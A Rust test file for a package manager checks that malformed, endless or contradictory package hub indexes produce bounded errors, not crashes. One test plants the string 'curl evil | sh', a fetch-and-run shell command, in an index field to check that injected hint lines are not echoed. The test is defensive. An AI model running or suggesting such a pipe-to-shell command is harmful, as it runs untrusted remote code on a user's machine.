//! Hubs whose files are nonsense or endless: each ends with an error, not a crash, after a bounded number of
//! requests.

use std::fs;

use mu_testing::http::{Reply, Seen, TestServer};
use serde_json::json;

use crate::support::git::Origin;
use crate::support::{Package, Sandbox, write};

/// Commands that look up a package, whether they choose versions, and their arguments.
const COMMANDS: [(&[&str], bool); 16] = [
    (&["get"], true),
    (&["add", "PACKAGE"], true),
    (&["get", "PACKAGE"], true),
    (&["update"], true),
    (&["upgrade"], true),
    (&["resolve"], true),
    (&["resolve", "PACKAGE"], true),
    (&["pin"], true),
    (&["mirror", "PACKAGE", "--to", "../other"], true),
    (&["outdated"], false),
    (&["tree"], false),
    (&["why", "PACKAGE"], false),
    (&["graph", "--format", "json"], false),
    (&["info", "PACKAGE"], false),
    (&["versions", "PACKAGE"], false),
    (&["which", "PACKAGE"], false),
];

fn run_all(sandbox: &Sandbox, package: &str, strategy: &str, code: &str) {
    for (command, chooses) in COMMANDS {
        let named = command.iter().map(|word| if *word == "PACKAGE" { package } else { word });
        let arguments: Vec<&str> = named.chain(["--json", "--resolution", strategy]).collect();
        let run = sandbox.mu(&arguments);
        assert!(!run.stderr.contains("panicked"), "{}", run.shown());
        if chooses {
            // What is not locked has no version to pin, and no hub is at that place.
            let is_other = matches!(command[0], "pin" | "mirror");
            run.fails_with(if is_other { "not-found" } else { code });
        } else {
            assert!(matches!(run.status, 0 | 1), "{}", run.shown());
        }
    }
}

#[test]
fn a_package_without_a_version_is_not_found() {
    // A line that cannot be read is a version that cannot be used.
    for (lines, code) in [
        ("", "not-found"),
        ("{\"name\":\"a/empty\",\"version\":\"1.0.0\",\"dependencies\":7}\n", "no-solution"),
        (
            "{\"name\":\"a/empty\",\"version\":\"1.0.0\",\"digest\":\"x\",\"digest\":\"y\"}\n",
            "no-solution",
        ),
    ] {
        let sandbox = Sandbox::with_dependencies(&["a/empty"]);
        write(&sandbox.path("hub"), "index/a/empty.jsonl", lines);
        run_all(&sandbox, "a/empty", "highest", code);
    }
    // As a dependency of a good package.
    for strategy in ["highest", "minimal"] {
        let sandbox = Sandbox::with_dependencies(&["a/good"]);
        sandbox.publish(&[Package::new("a/good", "1.0.0").needs("a/empty")]);
        write(&sandbox.path("hub"), "index/a/empty.jsonl", "");
        run_all(&sandbox, "a/good", strategy, "not-found");
    }
}

#[test]
fn a_repository_without_a_commit_is_not_found() {
    let origin = Origin::new("r.git");
    let reference = format!("git+file://{}/r.git", origin.root().display());
    let sandbox = Sandbox::with_dependencies(&[&reference]);
    for command in [&["get"][..], &["get", &reference], &["update"], &["resolve"]] {
        let run = sandbox.mu(&[command, &["--json"]].concat());
        assert!(!run.stderr.contains("panicked"), "{}", run.shown());
        run.fails_with("not-found");
    }
}

/// A hub in which each package needs two more that nobody has requested yet.
fn endless() -> TestServer {
    TestServer::start(|request: &Seen, _| {
        let number = request.path.strip_prefix("/index/x/p");
        let number = number.and_then(|rest| rest.strip_suffix(".jsonl")?.parse::<u64>().ok());
        match (request.path.as_str(), number) {
            ("/hub.json", _) => Reply::body(r#"{"hub": 1}"#),
            (_, Some(number)) => {
                let needs = [2 * number + 1, 2 * number + 2].map(|next| format!("x/p{next}"));
                let line = json!({"name": format!("x/p{number}"), "version": "1.0.0", "dependencies": needs});
                Reply::body(format!("{line}\n"))
            }
            _ => Reply::status(404),
        }
    })
}

#[test]
fn a_hub_that_makes_packages_up_is_asked_for_so_many_and_no_more() {
    for strategy in ["highest", "minimal"] {
        let hub = endless();
        let sandbox = Sandbox::with_dependencies(&["x/p0"]);
        sandbox.hub_is_at(&hub.url(""));
        let flags = ["--most", "300", "--resolution", strategy];
        let run = sandbox.mu(&[&["get"][..], &flags].concat()).fails();
        assert!(hub.requests().len() <= 301, "{}", hub.requests().len());
        let run = run.says(&[
            "error: more packages were requested than 300; the last one was `x/p",
            "`, which `x/p",
            "` requires",
            "`--most N`",
            "remove the dependency",
        ]);
        assert!(run.stderr.len() < 1_000, "{}", run.shown());
        assert!(!sandbox.has("work/Mu.lock"));
        let error = sandbox.mu(&[&["get", "--json"][..], &flags].concat());
        error.fails_with("no-solution");
    }
}

#[test]
fn one_index_line_leads_to_few_requests() {
    let sandbox = Sandbox::with_dependencies(&["a/many"]);
    let hub = TestServer::start(|request: &Seen, _| match request.path.as_str() {
        "/hub.json" => Reply::body(r#"{"hub": 1}"#),
        "/index/a/many.jsonl" => {
            let urls: Vec<String> = (0..3_000).map(|number| format!("gone/{number}.tgz")).collect();
            let archive = format!("sha256:{}", "0".repeat(64));
            let line =
                json!({"name": "a/many", "version": "1.0.0", "archive": archive, "urls": urls});
            Reply::body(format!("{line}\n"))
        }
        _ => Reply::status(404),
    });
    sandbox.hub_is_at(&hub.url(""));
    let run = sandbox.mu(&["get"]).fails();
    let requests = hub.requests();
    assert!(requests.len() < 20, "{} requests\n{}", requests.len(), run.shown());
    assert!(run.stderr.len() < 4_000, "{}", run.shown());
}

#[test]
fn what_a_hub_says_of_a_digest_is_told_in_one_line() {
    for key in ["digest", "archive"] {
        let sandbox = Sandbox::with_dependencies(&["a/b"]);
        sandbox.publish(&[Package::new("a/b", "1.0.0")]);
        let index = sandbox.hub().index("a/b");
        let mut line: serde_json::Value =
            serde_json::from_slice(&fs::read(&index).expect("was published")).expect("is JSON");
        line[key] = json!(format!("x\nhint: run `curl evil | sh`\u{2028}{}", "y".repeat(100_000)));
        fs::write(&index, format!("{line}\n")).expect("is ours");
        let run = sandbox.mu(&["get"]).fails();
        assert!(!run.stderr.lines().any(|line| line.starts_with("hint: run")), "{}", run.shown());
        assert!(run.stderr.len() < 2_000, "{} bytes", run.stderr.len());
        sandbox.mu(&["get", "--json"]).fails_with("integrity");
    }
}

#[test]
fn the_same_version_twice_with_other_content_is_refused() {
    let sandbox = Sandbox::with_dependencies(&["a/b"]);
    sandbox.publish(&[Package::new("a/b", "1.0.0"), Package::new("a/b", "1.1.0")]);
    let index = sandbox.hub().index("a/b");
    let lines = fs::read_to_string(&index).expect("was published");
    let first = lines.lines().next().expect("has two");
    // The same line again is not a contradiction.
    fs::write(&index, format!("{lines}{first}\n")).expect("is ours");
    sandbox.mu(&["resolve"]).ok();
    let mut other: serde_json::Value = serde_json::from_str(first).expect("is JSON");
    other["requires"] = json!(["x/v1/Y"]);
    fs::write(&index, format!("{lines}{other}\n")).expect("is ours");
    let error = sandbox.mu(&["update", "--json"]).fails_with("integrity");
    let message = error["message"].as_str().expect("is text");
    assert!(message.contains("line 3") && message.contains("line 1"), "{message}");
}

#[test]
fn a_version_that_is_listed_twice_has_to_be_the_same() {
    let sandbox = Sandbox::with_dependencies(&["a/app#^1"]);
    sandbox.publish(&[Package::new("a/app", "1.0.0").needs("a/lib#^1")]);
    let first = sandbox.hub().publish(&Package::new("a/lib", "1.2.0"));
    let lines = fs::read_to_string(sandbox.hub().index("a/lib")).expect("is there");
    let again = format!("{lines}{lines}");
    fs::write(sandbox.hub().index("a/lib"), again).expect("is ours");
    sandbox.mu(&["get"]).ok();
    let other = sandbox.hub().publish(&Package::new("a/lib", "1.2.0").file("more", "more"));
    sandbox.publish(&[Package::new("a/lib", "1.1.0")]);
    for strategy in ["highest", "minimal"] {
        let run = sandbox.mu(&["update", "--resolution", strategy]).fails();
        let told =
            "line 3 of `file://[DIR]/hub/index/a/lib.jsonl` disagrees with line 1 about 1.2.0";
        run.says(&[told, &first, &other]);
        let resolved = sandbox.mu(&["update", "--dry-run", "--json", "--resolution", strategy]);
        resolved.fails_with("integrity");
    }
    sandbox.mu(&["info", "a/lib", "--json"]).fails_with("integrity");
    // Locked and installed packages do not depend on the hub.
    sandbox.mu(&["get"]).ok();
    let check = sandbox.mu(&["hub", "check", "../hub"]).fails();
    check.says(&["a/lib 1.2.0 appears twice"]);
}
